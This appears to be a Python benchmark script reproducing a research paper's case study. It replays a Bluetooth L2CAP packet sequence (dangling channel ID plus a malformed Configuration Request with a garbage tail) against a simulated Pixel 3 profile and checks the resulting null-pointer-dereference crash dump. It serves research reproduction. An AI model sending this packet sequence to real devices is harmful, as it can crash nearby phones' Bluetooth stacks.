"""Reproduce the §IV.E case study: the Pixel 3 null-pointer dereference.

Runs the directed attack flow (SDP connect without pairing → config job →
Configuration Request with a dangling DCID and a garbage tail) against
the armed D2 profile, then prints the resulting tombstone — the Fig. 12
artefact.
"""

from __future__ import annotations

import pytest

from repro.core.packet_queue import PacketQueue
from repro.errors import ConnectionFailedError
from repro.hci.transport import VirtualLink
from repro.l2cap.constants import Psm
from repro.l2cap.packets import (
    configuration_request,
    connection_request,
    disconnection_request,
)
from repro.testbed.profiles import D2

from benchmarks.bench_helpers import run_once


def _attack_pixel3() -> tuple[object, str]:
    device = D2.build(armed=True)
    link = VirtualLink(clock=device.clock)
    device.attach_to(link)
    queue = PacketQueue(link)

    # Connect/disconnect/reconnect so CID 0x0040 dangles, then strike.
    first = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
    stale = first[0].fields["dcid"]
    queue.send(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
    queue.send(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))

    attack = configuration_request(dcid=stale, identifier=4).replace(
        garbage=bytes.fromhex("D23A910E")
    )
    with pytest.raises(ConnectionFailedError):
        queue.send(attack)
    return device, device.crash_dumps[0]


def bench_case_study_pixel3(benchmark):
    device, tombstone = run_once(benchmark, _attack_pixel3)
    print("\n=== §IV.E case study — Pixel 3 tombstone (cf. Fig. 12) ===")
    print(tombstone)
    assert not device.is_alive
    assert device.crash.vulnerability_id == "bluedroid-cidp-null-deref"
    assert "null pointer dereference" in tombstone
    assert "l2c_csm_execute(t_l2c_ccb*, unsigned short, void*)" in tombstone
    assert "fault addr 0x20" in tombstone
